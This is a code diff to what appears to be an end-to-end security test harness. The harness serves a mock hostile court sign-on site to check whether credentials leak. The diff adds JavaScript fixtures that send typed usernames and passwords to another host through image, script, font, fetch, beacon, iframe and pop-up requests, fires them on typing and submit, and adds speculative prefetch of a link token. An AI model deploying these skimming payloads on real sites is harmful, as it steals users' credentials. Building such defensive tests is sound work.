@@ -14,9 +14,9 @@ from urllib.parse import urlencode
 
 from starlette.applications import Starlette
 from starlette.requests import Request
-from starlette.responses import HTMLResponse, RedirectResponse, Response
+from starlette.responses import HTMLResponse, JSONResponse, RedirectResponse, Response
 from starlette.routing import Host, Route, Router
-from starlette.types import ASGIApp, Receive, Scope, Send
+from starlette.types import ASGIApp, Message, Receive, Scope, Send
 
 from e2e.courts.independent import (
     FULL,
@@ -29,6 +29,7 @@ from e2e.courts.independent import (
     free_port,
     serving,
 )
+from e2e.courts.ways_out import REQUESTS, UNSEEN
 
 METHODS = ["GET", "POST", "PUT", "DELETE"]
 
@@ -84,14 +85,26 @@ AWAY: Mapping[str, str] = {
 }
 """Tricks that leave the page, or open another one."""
 
-CALL = (
-    "(async () => { const all = new RTCPeerConnection({iceServers: [{credential: 'x', "
-    "urls: 'turn:127.0.0.1:%d?transport=tcp', username: typed.slice(0, 200)}]}); "
-    "all.createDataChannel('x'); await all.setLocalDescription(await all.createOffer()); "
-    "await later(); })()"
-)
-"""A call from browser to browser by way of a port, which no request sets up."""
-TRICKS: dict[str, str] = {**AT_HOME, **AWAY}
+LEAKS: Mapping[str, str] = {
+    f"{kind} {where}": leak.replace("TO", f"`{to}?how=${{NAME}}&${{typed}}`")
+    for where, to in {
+        "to nobody's host": "http://other.${location.host.split('.').slice(1).join('.')}/caught",
+        "to another site": "http://www.${location.host.split('.').slice(1).join('.')}/log",
+        "to its own site": "/log",
+    }.items()
+    for kind, leak in {
+        "image": "loaded('img', {src: TO})",
+        "script": "loaded('script', {src: TO})",
+        "style": "loaded('link', {rel: 'stylesheet', href: TO})",
+        "font": "new FontFace('it', `url(${TO})`).load()",
+        "fetch": "fetch(TO, {mode: 'no-cors'})",
+        "beacon": "later(navigator.sendBeacon(TO))",
+        "frame": "loaded('iframe', {src: TO})",
+        "pop-up": "later(window.open(TO))",
+    }.items()
+}
+"""What the sign-on page does with what was typed, besides signing on."""
+TRICKS: dict[str, str] = {**AT_HOME, **AWAY, **REQUESTS, **UNSEEN, **LEAKS}
 
 _WAYS = """
 const asked = (ask) => new Promise(ask);
@@ -154,6 +167,14 @@ class Trick:
     verification_to: str = "/link"
     confirmation: tuple[str, ...] = ()
     """What the confirmation does over and over, to link a second pair (of `TRICKS`)."""
+    on_typing: tuple[str, ...] = ()
+    """What the sign-on page does as soon as username and password are in it (of `TRICKS`)."""
+    on_sign_on: tuple[str, ...] = ()
+    """What it does when its form is submitted (of `TRICKS`)."""
+    loads: str = ""
+    """What is on the home page and on the sign-on page besides, with the port as a pattern."""
+    headers: Mapping[str, str] = field(default_factory=dict)
+    """What is in the head of each of its answers besides."""
     sent_on: str = ""
     """Which form is not taken but sent on, with all that is in it: `/enter` or `/verify`."""
     sent_on_by: int = 307
@@ -190,7 +211,9 @@ class HostileCourt(IndependentCourt):
             "E-Filing Debtor Education": "/education",
         }
         listed = "".join(f"<p><a href='{to}'>{words}</a></p>" for words, to in links.items())
-        return _page("<h1>Court of Harm</h1><section class='welcome-links'>", listed, "</section>")
+        loads = self.trick.loads.format(port=self.port)
+        heading = "<h1>Court of Harm</h1><section class='welcome-links'>"
+        return _page(heading, listed, "</section>", loads)
 
     async def login(self, _: Request) -> Response:
         """Answer with the sign-on page."""
@@ -203,6 +226,9 @@ class HostileCourt(IndependentCourt):
             "<button>Login</button> <button type='reset'>Clear</button>",
             "<p><a href='/p'>Forgot password?</a> <a href='/u'>Forgot username?</a> ",
             f"<a href='/n'>Need an account?</a></p></form><p>{LEGAL}</p></main>",
+            _script("form.addEventListener('input', tried)", self.trick.on_typing, at_once=True),
+            _script("form.addEventListener('submit', tried)", self.trick.on_sign_on, at_once=True),
+            self.trick.loads.format(port=self.port),
         )
 
     async def enter(self, request: Request) -> Response:
@@ -282,6 +308,11 @@ class HostileCourt(IndependentCourt):
         """Lead on to linking."""
         return RedirectResponse(f"/link?{urlencode(list(request.query_params.items()))}", 302)
 
+    async def rules(self, _: Request) -> Response:
+        """Answer with what is to be loaded ahead."""
+        rule = {"source": "list", "eagerness": "immediate", "urls": ["/link?how=ahead&token=grimm"]}
+        return JSONResponse({"prefetch": [rule]}, media_type="application/speculationrules+json")
+
     async def worker(self, _: Request) -> Response:
         """Answer with the service worker."""
         return Response(_WORKER, media_type="text/javascript")
@@ -306,20 +337,24 @@ def _page(*parts: str) -> Response:
     return HTMLResponse(text)
 
 
-def _script(begin: str, names: tuple[str, ...]) -> str:
+def _script(begin: str, names: tuple[str, ...], *, at_once: bool = False) -> str:
     """Return the script that plays tricks once login and password, or a token, are there."""
     if not names:
         return ""
-    played = "\n".join(
-        f"await (async () => {{ const NAME = {json.dumps(name)}; {_WAYS}"
-        f" await Promise.race([{TRICKS[name]}, later()]); }})().catch(() => 0);"
+    each = [
+        f"(async () => {{ const NAME = {json.dumps(name)}; {_WAYS}"
+        f" await Promise.race([{TRICKS[name]}, later()]); }})().catch(() => 0)"
         for name in names
-    )
-    return f"""<script>
+    ]
+    played = f"await Promise.all([{','.join(each)}]);"
+    if not at_once:
+        played = "\n".join(f"await {one};" for one in each)
+    return f"""<script>{{
 const form = document.forms[0];
 let typed = '', isPlaying = false;
 const tried = () => {{
   const has = new FormData(form);
+  if (!has.get('code')) has.delete('code');
   // With what a walk enters to try Clear nobody can be linked.
   if (isPlaying || [...has.values()].some((value) => !value || value === 'probe')) return;
   isPlaying = true;
@@ -327,7 +362,7 @@ const tried = () => {{
   window.played = (async () => {{ {played} isPlaying = false; return true; }})();
 }};
 {begin};
-</script>"""
+}}</script>"""
 
 
 @contextmanager
@@ -352,6 +387,7 @@ def _app(court: HostileCourt) -> ASGIApp:
             "/linked": court.linked,
             "/onward": court.onward,
             "/worker.js": court.worker,
+            "/rules": court.rules,
         },
         # Nobody named this one in the configuration.
         "other": {"/link": court.link, "/linked": court.linked, "/caught": court.linked},
@@ -381,4 +417,11 @@ class _Noting:
         if request.url.path == trick.sent_on:
             to = trick.sent_on_to.format(port=self._court.port)
             answer = RedirectResponse(to, trick.sent_on_by)
-        await answer(scope, receive, send)
+
+        async def send_with_headers(message: Message) -> None:
+            if message["type"] == "http.response.start":
+                added = ((name.encode(), has.encode()) for name, has in trick.headers.items())
+                message["headers"] = [*message["headers"], *added]
+            await send(message)
+
+        await answer(scope, receive, send_with_headers)
